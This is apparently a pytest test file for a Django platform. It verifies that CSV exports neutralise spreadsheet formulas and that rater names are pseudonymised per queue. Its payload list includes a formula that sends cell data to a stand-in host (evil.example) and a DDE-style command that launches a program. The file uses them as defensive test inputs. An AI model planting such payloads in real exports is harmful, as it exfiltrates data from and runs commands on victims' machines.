"""Every CSV the platform writes neutralises spreadsheet formulas; rater names are pseudonyms."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from core.csvsafe import FORMULA_TRIGGERS, csv_cell
from review.agreement import rater_pseudonym
from review.services import assignment_claim, rating_submit
from tests.metrics_registry.factories import MetricFactory, release_with
from tests.review.factories import metric_queue

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(cells: list[str]) -> None:
    """No cell a spreadsheet would run; the payloads arrive quoted, so nothing is lost."""
    dangerous = [
        cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and csv_cell(cell) != cell
    ]
    assert dangerous == []
    assert "'" + PAYLOADS[0] in cells
    assert "'@SUM(1+1)" in cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("@x", "'@x"),
        ("-0.25", "-0.25"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        ("-", "'-"),
        ("plain = text", "plain = text"),
        (-3, -3),
        (None, None),
    ],
)
def test_csv_cell_follows_the_owasp_rule_and_keeps_numbers(value, expected):
    assert csv_cell(value) == expected


def test_the_public_release_csv_neutralises_formulas(client):
    metrics = [
        MetricFactory(name=payload, credit_name=payload, status="validated") for payload in PAYLOADS
    ]
    release = release_with("2.0.0", metrics, publish=True)
    response = client.get(reverse("metrics_registry:release_export", args=[release.version, "csv"]))
    assert response.status_code == 200
    _assert_neutral(_cells(b"".join(response.streaming_content).decode()))


def test_the_ratings_csv_neutralises_formulas_and_uses_per_queue_pseudonyms(
    client, researcher, expert_reviewer
):
    for n in range(len(PAYLOADS)):
        MetricFactory(name=f"Offers a next step {n}", status="validated")
    queues = [metric_queue(n=len(PAYLOADS), required=1, created_by=researcher) for _ in range(2)]
    for payload in PAYLOADS:
        assignment = assignment_claim(queue=queues[0], rater=expert_reviewer)
        rating_submit(
            assignment=assignment,
            rater=expert_reviewer,
            answers={"fidelity": "partly"},
            comment=payload,
        )
    client.force_login(researcher)
    response = client.get(reverse("review:queue-export", args=[queues[0].pk]))
    text = b"".join(response.streaming_content).decode()
    _assert_neutral(_cells(text))
    raters = {row["rater"] for row in csv.DictReader(io.StringIO(text))}
    assert raters == {rater_pseudonym(queues[0], expert_reviewer.pk)}
    assert f"rater-{expert_reviewer.pk}" not in raters
    # The same rater gets another name in another queue: exports cannot be linked.
    assert rater_pseudonym(queues[1], expert_reviewer.pk) not in raters


@pytest.mark.slow(reason="reads every Python source file of the project")
def test_no_module_writes_csv_except_through_core_csvsafe():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(ROOT))
        for path in ROOT.glob("*/**/*.py")
        if not path.is_relative_to(ROOT / "tests")
        and not path.is_relative_to(ROOT / ".venv")
        and path != ROOT / "core" / "csvsafe.py"
        and writers.search(path.read_text())
    ]
    assert offenders == []
